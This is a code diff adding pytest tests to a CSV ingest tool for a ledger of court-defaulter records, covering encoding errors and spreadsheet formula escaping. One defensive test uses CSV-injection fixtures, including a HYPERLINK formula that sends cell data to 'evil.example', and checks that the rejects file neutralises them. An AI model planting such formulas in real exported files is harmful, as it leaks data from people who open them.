@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 from datetime import date
 from pathlib import Path
@@ -396,3 +397,59 @@ def test_a_flood_of_rejects_is_logged_in_part(ledger_url: str) -> None:
     assert total == MAX_PER_INGEST + 1
     assert newest[0].field == "(more)"
     assert newest[0].reason.startswith("5 more rejects")
+
+
+# ---------------------------------------------------------------- encodings and spreadsheets
+
+
+def _csv_bytes(rows: list[list[str]], encoding: str = "utf-8", header: bool = True) -> bytes:
+    text = io.StringIO()
+    writer = csv.writer(text, lineterminator="\n")
+    writer.writerows([FIELDS, *rows] if header else rows)
+    return text.getvalue().encode(encoding)
+
+
+def test_a_line_that_is_not_utf8_is_one_reject(ledger_url: str, tmp_path: Path) -> None:
+    good = [GOOD[0][:-1] + ["判决书 1"], GOOD[1]]  # the file is UTF-8: it has Chinese in it
+    bad = ["r9", PERSON, "person", "court.defaulter", "2024-01-02", "court", "", "", "法院判决书"]
+    path = tmp_path / "mixed.csv"
+    data = _csv_bytes([good[0]]) + _csv_bytes([bad], "gbk", header=False)
+    path.write_bytes(data + _csv_bytes([good[1]], header=False))
+    result = runner.invoke(app, ["ingest", str(path), "--db", ledger_url])
+    assert result.exit_code == 1, result.output
+    assert _count(ledger_url) == 2  # nothing valid is lost with the bad line
+    (reject,) = _rejects(path)
+    assert (reject["line"], reject["field"]) == ("3", "evidence")
+    assert reject["reason"].startswith("not UTF-8 text (byte 0x")
+
+
+def test_a_file_in_another_encoding_is_refused_before_anything_is_committed(
+    ledger_url: str, tmp_path: Path
+) -> None:
+    path = tmp_path / "gbk.csv"
+    rows = [GOOD[1], [*GOOD[0][:-1], "判决书"], GOOD[2]]
+    path.write_bytes(_csv_bytes(rows, "gbk"))
+    result = runner.invoke(app, ["ingest", str(path), "--db", ledger_url])
+    assert result.exit_code == 2
+    assert "line 3: not UTF-8 text" in result.output
+    assert "GB18030" in result.output
+    assert "Traceback" not in result.output
+    assert _count(ledger_url) == 0
+
+
+def test_the_rejects_file_never_holds_a_formula(tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path / 'ledger.db'}"
+    path = tmp_path / "formula.csv"
+    path.write_text(
+        ",".join(FIELDS) + "\n"
+        '=HYPERLINK("http://evil.example/?"&A1),x\n'
+        f"r2,{PERSON},person,court.defaulter,@SUM(1+1),court,,,\n"
+        f"r3,{PERSON},person,court.defaulter,2024-01-02,court,,,\n",
+        encoding="utf-8",
+    )
+    result = runner.invoke(app, ["ingest", str(path), "--db", url])
+    assert result.exit_code == 1, result.output
+    with path.with_name(path.name + ".rejects.csv").open(encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert any(c.startswith("'=HYPERLINK") for c in cells)
